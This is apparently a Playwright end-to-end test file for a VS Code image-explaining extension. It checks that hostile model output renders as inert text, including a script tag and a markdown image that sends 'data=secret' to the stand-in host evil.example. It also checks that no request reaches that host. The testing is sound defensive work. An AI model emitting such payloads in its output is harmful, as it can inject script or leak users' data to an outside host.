// End to end, as a user does it: right-click an image in the Explorer → Explain Image → the chat
// panel shows the image and the streamed answer → Stop. Then the same with a "model" whose
// output is hostile markdown (script, remote images, javascript: links, raw HTML): it renders as
// inert text and the page requests nothing outside VS Code itself.
//
// The first suite runs the real llama-server with the tiny pair. The second replaces llama-server
// with test/fixtures/fakeServer/fake-llama-server.mjs (set as glimpse.serverPath through a small
// wrapper script) to control exactly what the model says and how slowly it streams.

import * as assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import type { FrameLocator } from 'playwright-core';
import { writeFakeLlamaServer } from './fakeLlamaServer';
import { openWorkbench, type Workbench } from './harness';

const repositoryRoot = path.resolve(__dirname, '../../..');

/** A llama-server stand-in that streams the hostile markdown slowly (so Stop lands mid-answer). */
function writeFakeServer(): string {
  const hostile = fs.readFileSync(path.join(repositoryRoot, 'test', 'fixtures', 'fakeServer', 'hostile-answer.md'), 'utf8');
  // The hostile part first, then a long tail so the answer is still streaming when Stop is pressed.
  return writeFakeLlamaServer('fake-llama-server', `${hostile}\n\n${'More words keep arriving. '.repeat(400)}`, { delayMs: 40, chunk: 8 });
}

async function explainFromExplorer(workbench: Workbench, file: string): Promise<FrameLocator> {
  await workbench.clickExplorerMenuItem(file, 'Explain Image');
  const panel = workbench.webviewFrame();
  await panel.locator('.turn-user .thumbnail img').first().waitFor({ state: 'visible', timeout: 60_000 });
  return panel;
}

describe('Explain Image from the Explorer (code-server + Chromium, real engine)', function () {
  this.timeout(240_000);
  let workbench: Workbench;

  before(async () => {
    workbench = await openWorkbench({ settings: { 'glimpse.maxTokens': 64 } });
  });
  afterEach(async function () {
    if (this.currentTest?.state === 'failed') await workbench?.screenshot(`failed-${this.currentTest.title.replace(/\W+/g, '-')}`);
  });
  after(async () => {
    await workbench?.dispose();
  });

  it('shows the image and streams the answer of the real engine into the panel', async () => {
    const panel = await explainFromExplorer(workbench, 'screenshot.png');
    const thumbnail = panel.locator('.turn-user .thumbnail img').first();
    assert.match((await thumbnail.getAttribute('src')) ?? '', /^data:image\/png;base64,/);
    assert.equal(await thumbnail.getAttribute('alt'), 'screenshot.png');
    const answer = panel.locator('.turn-assistant').first();
    await answer.locator('.turn-stats').waitFor({ state: 'visible', timeout: 90_000 });
    assert.ok(((await answer.textContent()) ?? '').length > 20, 'answer text is shown');
    assert.match((await panel.locator('.model-label').textContent()) ?? '', /synthetic/i);
    await workbench.screenshot('explain-image-real-engine');
  });
});

describe('Explain Image with hostile model output (code-server + Chromium, scripted engine)', function () {
  this.timeout(240_000);
  let workbench: Workbench;

  before(async () => {
    workbench = await openWorkbench({ settings: { 'glimpse.serverPath': writeFakeServer() } });
  });
  afterEach(async function () {
    if (this.currentTest?.state === 'failed') await workbench?.screenshot(`failed-${this.currentTest.title.replace(/\W+/g, '-')}`);
  });
  after(async () => {
    await workbench?.dispose();
  });

  it('streams, stops on Stop, and renders script, images, javascript: links and raw HTML as inert text', async () => {
    const panel = await explainFromExplorer(workbench, 'screenshot.png');
    const answer = panel.locator('.turn-assistant').first();
    await answer.getByText('More words keep arriving.').first().waitFor({ timeout: 60_000 });

    const stop = panel.locator('.stop-button');
    await stop.waitFor({ state: 'visible' });
    await stop.click();
    await answer.locator('.badge-stopped').waitFor({ state: 'visible', timeout: 10_000 });
    await stop.waitFor({ state: 'hidden', timeout: 10_000 });
    await workbench.screenshot('hostile-answer-stopped');

    // Nothing ran, nothing loads, nothing navigates.
    assert.equal(await panel.locator('body').getAttribute('data-pwned'), null, 'no injected code ran');
    assert.equal(await answer.locator('script, img, iframe, style, [style], [onerror], [onclick]').count(), 0);
    assert.equal(await answer.locator('a[href^="javascript:"]').count(), 0);
    const links = await answer.locator('a').evaluateAll((anchors) => anchors.map((a) => (a as unknown as { href: string }).href));
    assert.deepEqual(links, ['https://example.com/docs']);
    // The hostile markup is still there for the user to read, as text.
    const text = (await answer.textContent()) ?? '';
    assert.match(text, /<script>document\.body\.dataset\.pwned = 'script'<\/script>/);
    assert.match(text, /!\[exfiltrate\]\(https:\/\/evil\.example\/md-image\.png\?data=secret\)/);
    assert.match(text, /raw html block/);
    assert.equal(await answer.locator('pre code.language-html').textContent(), '<b>code stays text</b>\n');

    // The webview's frames requested only the panel's own files (served by VS Code's resource
    // service worker), and nothing anywhere in the page went to the hostile host.
    const webviewRequests = workbench.requests.filter((request) => request.frameUrl.includes('/contrib/webview/browser/pre/'));
    assert.ok(webviewRequests.length > 0, 'the webview frames were recorded');
    const media = `${path.join(repositoryRoot, 'media')}/`;
    const ownResource = (url: string) =>
      (/^https:\/\/[^/]+\.vscode-resource\.vscode-cdn\.net\//.test(url) && decodeURIComponent(new URL(url).pathname).startsWith(media)) ||
      /^http:\/\/127\.0\.0\.1:\d+\/[^/]+\/static\/out\/vs\/workbench\/contrib\/webview\/browser\/pre\//.test(url) ||
      /^(data|blob):/.test(url);
    assert.deepEqual(webviewRequests.filter((request) => !ownResource(request.url)).map((request) => request.url), []);
    const ownFiles = webviewRequests.filter((request) => /vscode-resource/.test(request.url)).map((request) => path.basename(new URL(request.url).pathname));
    assert.deepEqual([...new Set(ownFiles)].sort(), ['chat.css', 'chat.js']);
    assert.deepEqual(workbench.requests.filter((request) => request.url.includes('evil.example')).map((r) => r.url), []);
  });
});
